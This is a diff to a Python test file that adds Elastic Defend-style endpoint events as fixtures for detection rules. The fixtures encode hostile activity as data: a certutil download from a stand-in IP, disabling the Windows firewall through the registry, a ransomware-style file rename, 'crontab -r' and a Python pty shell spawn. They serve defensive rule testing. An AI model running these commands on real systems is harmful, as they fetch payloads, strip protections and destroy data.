@@ -47,6 +47,18 @@ LINK = "Nov 20 09:00:00 gw kernel: IN=eth0 OUT= SRC=192.0.2.1 DST=%s LEN=60 TTL=
 EXECVE = 'type=EXECVE msg=audit(1795000000.000:1): argc=3 a0="%s" a1="-c" a2="%s"'
 
 
+def sensor(log: str, action: str, type: str, system: str = "windows", **more: Any) -> dict[str, Any]:
+    """Return a document as Elastic Defend writes it."""
+    event = {"module": "endpoint", "dataset": f"endpoint.events.{log}", "category": [log], "type": [type]}
+    return {
+        "@timestamp": "2026-11-20T09:00:00Z",
+        "ecs": {"version": "8.10.0"},
+        "event": {**event, "kind": "event", "action": action},
+        "host": {"os": {"type": system}},
+        **more,
+    }
+
+
 def gcp(method: str, service: str = "dlp.googleapis.com", **payload: Any) -> dict[str, Any]:
     payload = {"methodName": method, "serviceName": service, **payload}
     return {
@@ -69,7 +81,7 @@ def at(log: str, **fields: Any) -> dict[str, Any]:
     return FLOW | {"_path": log} | fields
 
 
-ELSEWHERE = {"web.access"}
+ELSEWHERE = {"web.access", *(f"endpoint.events.{log}" for log in ("file", "library", "network", "process", "registry"))}
 """Data sets of documents in a SIEM, which other agents wrote."""
 
 FIRES: list[tuple[str, Any]] = [
@@ -171,6 +183,109 @@ FIRES: list[tuple[str, Any]] = [
     ("proxy_raw_paste_service_access", SQUID % "http://a.pastebin.com/raw/x"),
     ("net_firewall_apt_equationgroup_c2", LINK % "69.42.98.86"),
     ("proc_creation_lnx_python_pty_spawn", EXECVE % ("/usr/bin/python3", "import pty; pty.spawn(1)")),
+    (
+        "proc_creation_macos_csrutil_status",
+        sensor(
+            "process",
+            "exec",
+            "start",
+            "macos",
+            process={"executable": "/usr/bin/csrutil", "command_line": "csrutil status"},
+        ),
+    ),
+    (
+        "proc_creation_lnx_base64_decode",
+        sensor(
+            "process", "exec", "start", "linux", process={"executable": "/usr/bin/base64", "command_line": "base64 -d"}
+        ),
+    ),
+    (
+        "proc_creation_win_certutil_download",
+        sensor(
+            "process",
+            "start",
+            "start",
+            process={
+                "executable": "C:\\a.exe",
+                "pe": {"original_file_name": "CertUtil.exe"},
+                "command_line": "a -urlcache -f http://192.0.2.1/a",
+            },
+        ),
+    ),
+    (
+        "registry_set_disable_defender_firewall",
+        sensor(
+            "registry",
+            "modification",
+            "change",
+            registry={
+                "path": "HKLM\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\"
+                "DomainProfile\\EnableFirewall",
+                "data": {"type": "REG_DWORD", "strings": ["0"]},
+            },
+        ),
+    ),
+    (
+        "image_load_dll_amsi_suspicious_process",
+        sensor(
+            "library",
+            "load",
+            "start",
+            dll={"path": "C:\\Windows\\System32\\amsi.dll"},
+            process={"executable": "C:\\Windows\\System32\\rundll32.exe"},
+        ),
+    ),
+    (
+        "file_event_win_susp_exchange_aspx_write",
+        sensor(
+            "file",
+            "creation",
+            "creation",
+            file={"path": "C:\\a.aspx"},
+            process={"executable": "C:\\MSExchangeMailboxReplication.exe"},
+        ),
+    ),
+    (
+        "dns_query_win_tor_onion_domain_query",
+        sensor("network", "lookup_requested", "info", dns={"question": {"name": "a.onion"}}),
+    ),
+    (
+        "net_connection_win_certutil_initiated_connection",
+        sensor(
+            "network",
+            "connection_attempted",
+            "start",
+            destination={"ip": "192.0.2.1", "port": 443},
+            process={"executable": "C:\\Windows\\System32\\certutil.exe"},
+        ),
+    ),
+    (
+        "file_rename_win_ransomware",
+        sensor(
+            "file",
+            "rename",
+            "change",
+            file={
+                "path": "C:\\a.docx.locked",
+                "Ext": {"original": {"path": "C:\\a.docx"}},
+            },
+        ),
+    ),
+    (
+        "proc_creation_lnx_crontab_removal",
+        {
+            "event_simpleName": "ProcessRollup2",
+            "aid": "a1",
+            "timestamp": "1795000000000",
+            "event_platform": "Lin",
+            "ImageFileName": "/usr/bin/crontab",
+            "CommandLine": "crontab -r",
+        },
+    ),
+    (
+        "file_event_macos_emond_launch_daemon",
+        sensor("file", "creation", "creation", "macos", file={"path": "/etc/emond.d/rules/a.plist"}),
+    ),
 ]
 
 
@@ -199,6 +314,12 @@ def test_a_native_event_is_found_by_the_rule_of_its_log_source_and_by_no_other(t
         ("{product: azure, service: auditlogs}", SIGN_IN),
         ("{product: gcp, service: google_workspace.login}", gcp("projects.content.reidentify")),
         ("{product: linux, category: process_creation}", EXECVE.replace("EXECVE", "SYSCALL") % ("a", "b")),
+        ("{product: linux, category: process_creation}", sensor("process", "exec", "start", "macos")),
+        ("{product: windows, category: process_creation}", sensor("process", "exec", "start", "linux")),
+        ("{product: windows, category: process_creation}", sensor("process", "end", "end")),
+        ("{product: windows, category: file_event}", sensor("file", "deletion", "deletion")),
+        ("{product: windows, category: registry_add}", sensor("registry", "modification", "change")),
+        ("{product: windows, category: image_load}", sensor("process", "start", "start")),
     ],
 )
 def test_the_neighbour_is_another_log_source(tmp_path: Path, source: str, event: Any) -> None:
